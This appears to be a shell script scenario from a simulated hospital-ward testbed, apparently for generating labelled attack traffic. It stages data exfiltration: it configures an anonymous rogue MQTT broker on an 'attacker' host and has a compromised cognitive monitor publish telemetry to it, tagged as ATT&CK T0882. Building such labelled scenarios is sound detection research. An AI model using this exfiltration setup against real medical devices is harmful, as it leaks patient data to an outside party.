# Exfiltration: the cognitive monitor (compromised) also publishes its telemetry to an MQTT
# broker on a host outside the ward's inventory (the attacker, anonymous Mosquitto).
DEFAULT_DURATION=30
attack_exfiltration() {
  printf 'user root\nlistener 1883 0.0.0.0\nallow_anonymous true\npersistence false\nlog_dest stderr\nlog_type all\n' \
    > "$out/logs/mosquitto-rogue.conf"
  spawn attacker mosquitto-rogue 60 mosquitto -c "$out/logs/mosquitto-rogue.conf"
  sleep 1
  local t0 t1
  t0=$(now)
  run_in cogmon exfil 20 "$WARD_SIM" cognitive-monitor --id COGMON-0031 --broker 10.10.9.66 \
    --topic 'dump/{id}' --interval 0.5 --count 10 --duration 15
  t1=$(now)
  label exfiltration T0882 cogmon attacker "$t0" "$t1" \
    "10 MQTT PUBLISH of the cognitive monitor's telemetry to 10.10.9.66:1883, a broker not in the ward"
}
scenario_run() {
  start_ward "$1"
  sleep 8
  attack_exfiltration
}
